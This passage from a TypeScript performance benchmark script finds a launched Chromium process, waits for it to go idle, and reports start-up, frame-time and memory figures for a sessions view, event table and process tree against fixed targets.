 * WebUI renderer (the omnibox popup, chrome://omnibox-popup.top-chrome) that takes about a
 * second of CPU in the three seconds after the window opens. Electron has no such UI, and on
 * two cores it competed with the page and the engine for the first screen (traced: 1.7 s of
 * that renderer's tasks in the first 0.9 s after navigation). Measured without it.
 */
async function browserIdle(): Promise<number> {
  const pid = findChromiumPid();
  if (pid === undefined) return -1;
  const t0 = performance.now();
  let last = cpuOfTree(pid);
  while (performance.now() - t0 < 10_000) {
    await new Promise((r) => setTimeout(r, 300));
    const now = cpuOfTree(pid);
    if (now - last < 0.03) break;
    last = now;
  }
  return Math.round(performance.now() - t0);
}

/** Playwright's chromium.launch does not expose the pid: find the newest Chromium started by us. */
function findChromiumPid(): number | undefined {
  const walk = (pid: number): number | undefined => {
    for (const c of childPids(pid)) {
      try {
        const cmd = readFileSync(`/proc/${c}/cmdline`, 'utf8');
        if (cmd.includes('chromium') && !cmd.includes('--type=')) return c;
      } catch {
        // gone
      }
      const found = walk(c);
      if (found !== undefined) return found;
    }
    return undefined;
  };
  return walk(process.pid);
}

function verdict(f: Figures): string {
  const frames = (k: string): PhaseFigures | undefined => f[k] as PhaseFigures | undefined;
  const ok = (b: boolean): string => (b ? 'met' : 'NOT met');
  const lines = [
    `${f['mode']}${f['variant'] ? ' ' + String(f['variant']) : ''} run ${f['run']} (load ${f['loadavgBefore']} → ${f['loadavgAfter']})` +
      (f['analysisReadyAfterServeS'] !== undefined ? `; analysis ready ${f['analysisReadyAfterServeS']} s after serve started` : '') +
      `; the new window's browser UI went idle ${f['browserIdleWaitMs']} ms before navigation`,
    `  sessions list rendered  ${f['sessionsInDomMs']} ms after navigation (the bench saw it at ${f['sessionsVisibleMs']} ms; renderer CPU ${f['sessionsVisibleCpuMs']} ms)   target ≤ 1000 ms: ${ok((f['sessionsInDomMs'] as number) >= 0 && (f['sessionsInDomMs'] as number) <= 1000)}`,
    `  first table page        ${f['firstTablePageInDomMs']} ms after navigation (the bench saw it at ${f['firstTablePageMs']} ms; renderer CPU ${f['firstTablePageCpuMs']} ms)   target ≤ 1000 ms: ${ok((f['firstTablePageInDomMs'] as number) >= 0 && (f['firstTablePageInDomMs'] as number) <= 1000)}   (${f['total']} events)`,
    `  both painted            ${f['firstScreenPaintedMs']} ms after navigation (the frame after both are in: style, layout, paint; the first task after it; a timer after it ran at ${f['firstScreenPaintedTimerMs']} ms)   ≤ 1000 ms: ${ok((f['firstScreenPaintedMs'] as number) >= 0 && (f['firstScreenPaintedMs'] as number) <= 1000)}`,
    `  start-up milestones (ms): ${f['startupMarks'] ?? ''}`,
  ];
  for (const [k, label] of [
    ['tableScroll', 'table scroll          '],
    ['treeOpenFrames', 'tree open             '],
    ['expandAllFrames', 'tree expand-all       '],
    ['treeScroll', 'tree scroll           '],
  ] as const) {
    const s = frames(k);
    if (!s) continue;
    lines.push(`  ${label}  max frame ${s.max} ms, p95 ${s.p95} ms, ${s.over50}/${s.frames} frames > 50 ms, ${s.over25 ?? '?'} > 25 ms, long tasks ${s.longTasks} (longest ${s.longestTask} ms); renderer CPU ${s.cpuMs} ms = ${s.frames ? ((s.cpuMs ?? 0) / s.frames).toFixed(1) : '?'} ms/frame (script ${s.scriptMs}, layout ${s.layoutMs}, style ${s.styleMs}); serve CPU ${s.serveCpuMs ?? '?'} ms (its HTTP thread ${s.serveMainCpuMs ?? '?'}, busiest 100 ms ${s.servePeakCores ?? '?'} cores, busiest threads ${s.serveTopThreadsMs?.join('/') ?? '?'}), other browser processes ${s.browserCpuMs ?? '?'} ms   target every frame < 50 ms: ${ok(s.max < 50)}`);
    for (const d of s.slowFrames ?? []) lines.push(`      frame ${d}`);
    for (const d of s.longFrames ?? []) lines.push(`      long animation frame ${d}`);
  }
  if (f['startupRequests'] !== undefined) lines.push(`  startup requests (start+duration ms): ${f['startupRequests']}`);
  if (f['error'] !== undefined) lines.push(`  FAILED: ${f['error']}`);
  lines.push(`  tree: ${f['treeProcesses']}; session chain answered in ${f['chainResponseMs']} ms (${f['chainMB']} MB in ${f['chainRequests'] ?? '?'} requests, engine); tree open ${f['treeOpenMs']} ms, expand-all ${f['expandAllMs']} ms (session ${f['bigSession']})`);
  lines.push(
    `  memory: JS heap ${f['jsHeapUsedMB']} MB used (${f['jsHeapUsedAfterGcMB']} MB after GC, ${f['jsHeapTotalMB']} MB allocated), renderer RSS ${f['rendererRssMB'] ?? '?'} MB, ${f['domNodes']} DOM nodes   target < 300 MB: ${ok(((f['rendererRssMB'] as number | undefined) ?? (f['jsHeapUsedMB'] as number)) < 300)}`,
  );
  return lines.join('\n');
}

async function main(): Promise<void> {
  console.log(`load average at start: ${load()}`);
  mkdirSync(DIR, { recursive: true });
  if (args.includes('--rebuild')) rmSync(CASE_DIR, { recursive: true, force: true });
  if (existsSync(join(CASE_DIR, 'case.json'))) {
    // Cold runs would otherwise detect again, with the engine's CPU counted in their phases.
    const stale = await staleRules(CASE_DIR);
    if (stale !== null) {
      console.log(`the cached case is built again: ${stale}`);
      rmSync(CASE_DIR, { recursive: true, force: true });
    }
  }
  if (!existsSync(EVIDENCE)) await writeEvidence();
  if (!existsSync(join(CASE_DIR, 'case.json'))) await importBenchCase(CASE_DIR, EVIDENCE, { name: `views bench ${EVENTS}`, builtinRules: true, analyze: true });
  if (!existsSync(join(ROOT, 'dist', 'renderer', 'index.html'))) throw new Error('no production renderer: run `npx vite build` first');
  const variants = opt('variants', '').split(',').filter((v) => v !== '');
  const all: Figures[] = [];
  for (const mode of ['cold', 'warm'] as const) {
    if (ONLY !== '' && ONLY !== mode) continue;
    all.push(...(await measure(mode, RUNS, variants)));
  }
  const out = opt('json', '');
  if (out !== '') writeFileSync(out, JSON.stringify(all, null, 2) + '\n');
}

await main();
